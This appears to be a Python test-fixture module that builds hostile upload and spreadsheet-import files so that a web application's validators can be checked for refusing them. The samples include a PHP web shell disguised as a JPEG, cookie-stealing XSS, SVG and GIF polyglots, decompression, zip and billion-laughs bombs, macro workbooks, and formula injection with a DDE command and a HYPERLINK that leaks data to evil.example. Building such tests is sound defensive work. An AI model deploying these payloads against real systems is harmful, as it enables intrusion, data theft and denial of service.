"""Hostile files, built in code, for every upload and every xlsx import (security.md D2, D4).

Two families:

- ``upload_corpus()``: files that must be refused wherever a file is accepted (evidence uploads and xlsx
  imports alike): forged images, a decompression bomb, truncated images, polyglots, zip bombs, macros,
  XML entity bombs, empty files.
- ``import_corpus(base, sheet=...)``: well-formed workbooks whose *content* an import must refuse (formulas,
  a million rows, a huge dimension, too many columns, the wrong sheet name, merged cells over a required
  column, impossible dates typed as text), each derived from ``base``, a workbook the import accepts, so that
  the hostile part is the only thing wrong with it. As evidence documents such workbooks are legitimate.

Nothing here needs the database; every builder returns bytes, and the corpus entries are built lazily and
cached (the largest, the zip bomb and the million-row sheet, take about a second each).
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

import openpyxl
from openpyxl.utils import get_column_letter
from PIL import Image

from anbiao.orgs.tests import xlsx_corpus as corpus

XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SCRIPT = b"<script>alert(document.cookie)</script>"
FORMULAS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A1,"点我")')
LAST_ROW = 1_048_576
LAST_COLUMN = 16_384


@dataclass(frozen=True)
class Hostile:
    key: str
    filename: str
    build: Callable[[], bytes] = field(repr=False, compare=False)
    content_type: str = "application/octet-stream"

    @property
    def data(self) -> bytes:
        return _cached(self.key, self.build)

    def upload(self, name: str | None = None):
        from django.core.files.uploadedfile import SimpleUploadedFile

        return SimpleUploadedFile(name or self.filename, self.data, content_type=self.content_type)


_CACHE: dict[str, bytes] = {}


def _cached(key: str, build: Callable[[], bytes]) -> bytes:
    if key not in _CACHE:
        _CACHE[key] = build()
    return _CACHE[key]


# --- images ---------------------------------------------------------------------------------------------
def jpeg(size=(64, 48)) -> bytes:
    img = Image.effect_noise(size, 64).convert("RGB")
    buf = io.BytesIO()
    img.save(buf, "JPEG", quality=90)
    return buf.getvalue()


def png(size=(64, 48)) -> bytes:
    img = Image.effect_noise(size, 64).convert("RGB")
    buf = io.BytesIO()
    img.save(buf, "PNG")
    return buf.getvalue()


def html_as_jpg() -> bytes:
    return b"<!DOCTYPE html><html><body><h1>x</h1>" + SCRIPT + b"</body></html>"


def php_as_jpg() -> bytes:
    return b"<?php echo shell_exec($_GET['c']); ?>\n"


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        + SCRIPT
        + b'<rect width="10" height="10"/></svg>'
    )


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
    """A complete, valid 1-bit PNG of ``width`` × ``height`` white pixels (400 megapixels by default) in
    about 50 KB: decoding it to RGB would take over a gigabyte."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    packer = zlib.compressobj(9)
    parts = [packer.compress(row) for _ in range(height)]
    parts.append(packer.flush())
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", b"".join(parts))
        + _png_chunk(b"IEND", b"")
    )


def truncated_jpeg() -> bytes:
    raw = jpeg((400, 300))
    return raw[: len(raw) // 2]


def truncated_png() -> bytes:
    raw = png((400, 300))
    return raw[: len(raw) // 2]


def png_broken_chunk() -> bytes:
    """A PNG whose data chunk has a non-letter type: Pillow raises SyntaxError, not OSError (a 500 before
    sniff_and_clean caught every exception; found by test_fuzz)."""
    raw = png((40, 30))
    start = raw.index(b"IDAT") - 4
    length = int.from_bytes(raw[start : start + 4], "big")
    data = raw[start + 8 : start + 8 + length]
    half = len(data) // 2
    broken = _png_chunk(b"IDAT", data[:half]) + _png_chunk(b'Vk"\x91', data[half:])
    return raw[:start] + broken + raw[start + 12 + length :]


def jpeg_header_html() -> bytes:
    """A JPEG start-of-image and JFIF header followed by an HTML page (a sniffer says JPEG, a browser that
    sniffs would render the page)."""
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + html_as_jpg()


def gif_javascript_polyglot() -> bytes:
    """The classic GIF/JavaScript polyglot: a GIF header that is also a JavaScript statement."""
    return b"GIF89a/*\x01\x00\x01\x00\x00\xff\x00*/=1;alert(1);//" + SCRIPT


def jpeg_with_html_tail() -> bytes:
    """A complete, valid JPEG with an HTML page appended. Accepted: re-encoding drops the tail."""
    return jpeg() + html_as_jpg()


# --- packages ---------------------------------------------------------------------------------------------
def minimal_xlsx() -> bytes:
    wb = openpyxl.Workbook()
    wb.active.title = "Sheet1"
    wb.active.append(["名称", "数量"])
    wb.active.append(["灭火器", 3])
    return corpus.to_bytes(wb)


def zip_bomb_xlsx(base: bytes | None = None, megabytes: int = 150) -> bytes:
    """``base`` plus one member of ``megabytes`` MB of zeros (about 150 KB packed), named like a picture
    (a ``.bin`` member would be refused as an embedded object before its size is looked at)."""
    return corpus.zip_bomb(base or minimal_xlsx(), megabytes=megabytes, name="xl/media/image1.png")


def xlsx_with_macros(base: bytes | None = None) -> bytes:
    """``base`` plus a VBA project and the content type Excel gives a macro-enabled workbook."""
    raw = corpus.with_macro(base or minimal_xlsx())
    return corpus.rewrite(
        raw,
        change={
            "[Content_Types].xml": lambda d: d.replace(
                b"sheet.main+xml", b"sheet.main.macroEnabled.main+xml", 1
            ).replace(
                b"</Types>",
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                1,
            )
        },
    )


def billion_laughs(xml: bytes, levels: int = 10) -> bytes:
    """Put the billion-laughs entity bomb in front of an XML document and use it in the first text node.

    Expanded, ``&lol9;`` is 10**9 characters."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels)
    ]
    root = re.search(rb"<([A-Za-z_][\w:.-]*)", re.sub(rb"<\?xml[^>]*\?>", b"", xml)).group(1).decode()
    doctype = f"<!DOCTYPE {root} [{''.join(entities)}]>".encode()
    body = re.sub(rb"^\s*<\?xml[^>]*\?>", b"", xml)
    body = re.sub(rb"<t>[^<]*</t>", f"<t>&lol{levels - 1};</t>".encode(), body, count=1)
    body = re.sub(rb"<v>[^<]*</v>", f"<v>&lol{levels - 1};</v>".encode(), body, count=1)
    return b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + doctype + body


def sheet_member(raw: bytes, sheet: str | None = None) -> str:
    """The zip member holding ``sheet`` (default: the first), following workbook.xml and its rels."""
    with zipfile.ZipFile(io.BytesIO(raw)) as zf:
        workbook = zf.read("xl/workbook.xml").decode()
        rels = zf.read("xl/_rels/workbook.xml.rels").decode()
    sheets = re.findall(r'<(?:\w+:)?sheet\b[^>]*?name="([^"]*)"[^>]*?r:id="([^"]*)"', workbook)
    rid = next((r for name, r in sheets if sheet is None or name == sheet), sheets[0][1])
    target = re.search(rf'<Relationship\b[^>]*Id="{rid}"[^>]*Target="([^"]*)"', rels)
    if target is None:
        target = re.search(rf'<Relationship\b[^>]*Target="([^"]*)"[^>]*Id="{rid}"', rels)
    path = target.group(1).lstrip("/")
    return path if path.startswith("xl/") else f"xl/{path}"


def billion_laughs_xlsx(base: bytes | None = None, sheet: str | None = None) -> bytes:
    base = base or minimal_xlsx()
    return corpus.rewrite(base, change={sheet_member(base, sheet): billion_laughs})


# --- the upload corpus -----------------------------------------------------------------------------------
def upload_corpus(
    base: Callable[[], bytes] = minimal_xlsx, *, name: str = "minimal", sheet: str | None = None
) -> list[Hostile]:
    """Files every upload and every import must refuse. The package-level attacks (zip bomb, macros, entity
    bomb in ``sheet``) are built on ``base``; an import passes a workbook it accepts, under a ``name`` that
    keys the cache."""
    tag = f"{name}:{sheet}"
    return [
        Hostile("html-as-jpg", "photo.jpg", html_as_jpg, "image/jpeg"),
        Hostile("php-as-jpg", "shell.php.jpg", php_as_jpg, "image/jpeg"),
        Hostile("svg-script", "drawing.svg", svg_with_script, "image/svg+xml"),
        Hostile("svg-as-png", "drawing.png", svg_with_script, "image/png"),
        Hostile("png-bomb", "bomb.png", png_bomb, "image/png"),
        Hostile("truncated-jpeg", "cut.jpg", truncated_jpeg, "image/jpeg"),
        Hostile("truncated-png", "cut.png", truncated_png, "image/png"),
        Hostile("png-broken-chunk", "broken.png", png_broken_chunk, "image/png"),
        Hostile("jpeg-header-html", "poly.jpg", jpeg_header_html, "image/jpeg"),
        Hostile("gif-js-polyglot", "poly.gif", gif_javascript_polyglot, "image/gif"),
        Hostile("empty-jpg", "empty.jpg", lambda: b"", "image/jpeg"),
        Hostile("empty-xlsx", "empty.xlsx", lambda: b"", XLSX_MIME),
        Hostile(f"zip-bomb:{tag}", "bomb.xlsx", lambda: zip_bomb_xlsx(base()), XLSX_MIME),
        Hostile(f"macros:{tag}", "macro.xlsx", lambda: xlsx_with_macros(base()), XLSX_MIME),
        Hostile(
            f"billion-laughs:{tag}", "laughs.xlsx", lambda: billion_laughs_xlsx(base(), sheet), XLSX_MIME
        ),
    ]


# --- workbook content ----------------------------------------------------------------------------------
def _edit(base: bytes, sheet: str, change: Callable[[openpyxl.Workbook, object], None]) -> bytes:
    wb = openpyxl.load_workbook(io.BytesIO(base))
    change(wb, wb[sheet])
    return corpus.to_bytes(wb)


def _first_data_row(ws, header_row: int) -> int:
    return header_row + 1


def formula_workbook(base: bytes, sheet: str, header_row: int = 1) -> bytes:
    """Formulas (DDE command, exfiltrating HYPERLINK) in the first data row."""

    def change(wb, ws):
        r = _first_data_row(ws, header_row)
        ws.cell(row=r, column=1, value=FORMULAS[0])
        ws.cell(row=r, column=2, value=FORMULAS[1])

    return _edit(base, sheet, change)


def wrong_sheet_name(base: bytes, sheet: str, header_row: int = 1) -> bytes:
    return _edit(base, sheet, lambda wb, ws: setattr(ws, "title", "Sheet1"))


def merged_cells(base: bytes, sheet: str, header_row: int = 1) -> bytes:
    """The first data row copied below itself and the first column merged over both rows, as people do to
    group rows: the lower row's first (required) cell is then empty."""

    def change(wb, ws):
        r = _first_data_row(ws, header_row)
        values = [c.value for c in ws[r]]
        ws.insert_rows(r + 1)
        for col, value in enumerate(values, start=1):
            ws.cell(row=r + 1, column=col, value=value)
        ws.merge_cells(start_row=r, start_column=1, end_row=r + 1, end_column=1)

    return _edit(base, sheet, change)


def text_dates(base: bytes, sheet: str, header_row: int = 1, *, date_header: str) -> bytes:
    """Dates typed as text that name no real day (13th month, 45th day)."""

    def change(wb, ws):
        headers = [c.value for c in ws[header_row]]
        ws.cell(
            row=_first_data_row(ws, header_row), column=headers.index(date_header) + 1, value="2024年13月45日"
        )

    return _edit(base, sheet, change)


def too_many_columns(base: bytes, sheet: str, header_row: int = 1) -> bytes:
    """A value in the last column Excel has (XFD): read naively, every row becomes 16,384 cells wide."""

    def change(wb, ws):
        ws.cell(row=_first_data_row(ws, header_row), column=LAST_COLUMN, value="x")

    return _edit(base, sheet, change)


def huge_dimension(base: bytes, sheet: str, header_row: int = 1) -> bytes:
    """The sheet declares the whole grid (A1:XFD1048576) and has one value in the very last row."""

    def change(wb, ws):
        ws.cell(row=LAST_ROW, column=1, value="x")

    raw = _edit(base, sheet, change)
    member = sheet_member(raw, sheet)
    return corpus.rewrite(
        raw,
        change={
            member: lambda d: re.sub(
                rb'<dimension ref="[^"]*"\s*/>',
                f'<dimension ref="A1:{get_column_letter(LAST_COLUMN)}{LAST_ROW}"/>'.encode(),
                d,
            )
        },
    )


def million_rows(base: bytes, sheet: str, header_row: int = 1, rows: int = 1_000_000) -> bytes:
    """``rows`` more data rows (one number each) after the base's rows, written straight into the sheet XML
    (about 25 MB unpacked, under 1 MB packed; openpyxl would take a minute to write them)."""
    member = sheet_member(base, sheet)

    def change(xml: bytes) -> bytes:
        last = max((int(n) for n in re.findall(rb'<row r="(\d+)"', xml)), default=header_row)
        # rows and cells without r= (optional in SpreadsheetML; the reader counts on from the last one)
        body = b"".join(b"<row><c><v>%d</v></c></row>" % (n % 997) for n in range(rows))
        xml = re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:A%d"/>' % (last + rows), xml)
        if b"</sheetData>" in xml:
            return xml.replace(b"</sheetData>", body + b"</sheetData>", 1)
        return xml.replace(b"<sheetData/>", b"<sheetData>" + body + b"</sheetData>", 1)

    return corpus.rewrite(base, change={member: change})


def import_corpus(
    base: Callable[[], bytes], *, name: str, sheet: str, header_row: int = 1, date_header: str | None = None
) -> list[Hostile]:
    """Workbooks an import must refuse for their content, each derived from ``base`` (which it accepts);
    ``name`` keys the cache."""
    tag = f"{name}:{sheet}"

    def derived(key: str, builder, **kwargs) -> Hostile:
        return Hostile(
            f"{key}:{tag}", f"{key}.xlsx", lambda: builder(base(), sheet, header_row, **kwargs), XLSX_MIME
        )

    items = [
        derived("formulas", formula_workbook),
        derived("million-rows", million_rows),
        derived("huge-dimension", huge_dimension),
        derived("too-many-columns", too_many_columns),
        derived("wrong-sheet-name", wrong_sheet_name),
        derived("merged-cells", merged_cells),
    ]
    if date_header:
        items.append(derived("text-dates", text_dates, date_header=date_header))
    return items


def every_import_file(
    base: Callable[[], bytes], *, name: str, sheet: str, header_row: int = 1, date_header: str | None = None
) -> list[Hostile]:
    """The upload corpus and the content corpus for one import."""
    return upload_corpus(base, name=name, sheet=sheet) + import_corpus(
        base, name=name, sheet=sheet, header_row=header_row, date_header=date_header
    )
